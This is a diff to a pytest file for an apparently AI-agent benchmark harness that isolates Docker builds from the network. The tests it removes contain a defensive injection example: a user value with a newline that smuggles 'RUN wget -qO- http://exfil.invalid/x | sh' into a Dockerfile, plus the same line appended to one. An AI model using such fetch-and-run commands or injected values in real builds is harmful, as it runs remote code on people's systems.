@@ -19,8 +19,8 @@ from pier.models.task.config import EnvironmentConfig
 from pier.models.trial.paths import TrialPaths
 
 from sciencebench.core.errors import PolicyRefused, PolicyViolation
+from sciencebench.core.settings import DEFAULT_PIDS_LIMIT
 from sciencebench.dockerhost import hostlocks
-from sciencebench.network.compose import DEFAULT_PIDS_LIMIT
 from sciencebench.network.egress import parse_inference_urls, plan_egress
 from sciencebench.network.environment import IsolatedDockerEnvironment
 
@@ -328,11 +328,11 @@ def override_build(env: IsolatedDockerEnvironment) -> object:
         (BASE_IMAGE, None, {}, False, None),  # prebuilt: no `build` key that would make it built
         (BASE_IMAGE, None, {}, True, {"network": "none"}),  # force_build rebuilds the Dockerfile
         (BASE_IMAGE, INSTALL, {"agent_install": "baked"}, False, {"network": "none"}),  # Pier's derived build
-        (BASE_IMAGE, INSTALL, {}, False, None),  # the online install (the default) keeps the network
-        (BASE_IMAGE, INSTALL, {"agent_install": "online"}, False, None),
+        (BASE_IMAGE, INSTALL, {}, False, {"network": "none"}),  # the online install's too, were it Pier's
+        (BASE_IMAGE, INSTALL, {"agent_install": "online"}, False, {"network": "none"}),
     ],
 )
-def test_every_build_but_an_online_install_gets_no_network(
+def test_every_build_gets_no_network(
     tmp_path: Path,
     docker_image: str | None,
     install: AgentInstallSpec | None,
@@ -370,70 +370,25 @@ def test_a_bad_agent_install_keyword_is_refused(tmp_path: Path, monkeypatch: pyt
         asyncio.run(env.start(force_build=False))
 
 
-def test_an_image_that_cannot_be_inspected_for_onbuild_is_refused(
+def test_an_online_install_of_an_agent_without_pinned_artifacts_is_refused_before_docker(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
+    install = AgentInstallSpec(agent_name="cursor-cli", steps=[InstallStep(run="true")])
+    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=install)
+    with pytest.raises(PolicyRefused, match="cursor-cli cannot be installed online: sciencebench pins no"):
+        asyncio.run(env.start(force_build=False))
+
+
+def test_an_online_install_the_engine_cannot_make_fails_as_pier_s_install_would(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     # An Engine that refuses the connection (on loopback: docker-py leaks the socket of a missing unix path).
     monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:9")
-    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL)
-    with pytest.raises(PolicyRefused, match="could not be inspected for ONBUILD"):
+    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL, agent_artifacts=str(tmp_path / "a"))
+    with pytest.raises(RuntimeError, match=r"^Agent install failed: "):
         asyncio.run(env.start(force_build=False))
-
-
-def test_only_a_context_holding_pier_s_dockerfile_from_the_image_may_build_online(tmp_path: Path) -> None:
-    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL)
-    env._prepare_agent_build_context()  # Pier's own: an empty directory and its Dockerfile
-    context = tmp_path / "trial" / "agent-build-context"
-    assert env._online_context() == context.resolve()
-    (context / "extra.sh").write_text("true\n")
-    assert env._online_context() is None
-    (context / "extra.sh").unlink()
-    assert (
-        build_env(
-            tmp_path / "b", docker_image=BASE_IMAGE, install=INSTALL, agent_install="baked"
-        )._online_context()
-        is None
-    )
-
-
-# --- the online install build context is exactly Pier's -----------------------------------
-
-
-def test_an_agent_user_that_adds_a_line_to_the_online_build_is_refused(tmp_path: Path) -> None:
-    """A user with a newline makes Pier write a second instruction into the networked build's Dockerfile."""
-    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL)
-    env.default_user = "root\nRUN wget -qO- http://exfil.invalid/x | sh"
-    env._prepare_agent_build_context()  # Pier's own, with the task's user
-    dockerfile = (tmp_path / "trial" / "agent-build-context" / "Dockerfile").read_text()
-    assert dockerfile.startswith(f"FROM {BASE_IMAGE}\n") and "\nRUN wget" in dockerfile
-    assert env._online_context() is None
-
-
-def test_a_line_added_after_pier_s_dockerfile_is_refused(tmp_path: Path) -> None:
-    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL)
-    env._prepare_agent_build_context()
-    dockerfile = tmp_path / "trial" / "agent-build-context" / "Dockerfile"
-    assert env._online_context() is not None
-    dockerfile.write_text(dockerfile.read_text() + "RUN wget -qO- http://exfil.invalid/x | sh\n")
-    assert env._online_context() is None
-
-
-def test_a_symlinked_online_dockerfile_is_refused(tmp_path: Path) -> None:
-    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL)
-    env._prepare_agent_build_context()
-    dockerfile = tmp_path / "trial" / "agent-build-context" / "Dockerfile"
-    elsewhere = tmp_path / "elsewhere"
-    dockerfile.rename(elsewhere)
-    dockerfile.symlink_to(elsewhere)
-    assert env._online_context() is None
-
-
-@pytest.mark.parametrize("user", ["1000", "1000:1000", "agent", 1000])
-def test_a_plain_agent_user_may_build_online(tmp_path: Path, user: str | int) -> None:
-    env = build_env(tmp_path, docker_image=BASE_IMAGE, install=INSTALL)
-    env.default_user = user
-    env._prepare_agent_build_context()
-    assert env._online_context() == (tmp_path / "trial" / "agent-build-context").resolve()
+    assert not (tmp_path / "trial" / "agent-build-context").exists()  # Pier's start never ran
 
 
 def test_a_symlinked_task_directory_is_refused(tmp_path: Path) -> None:
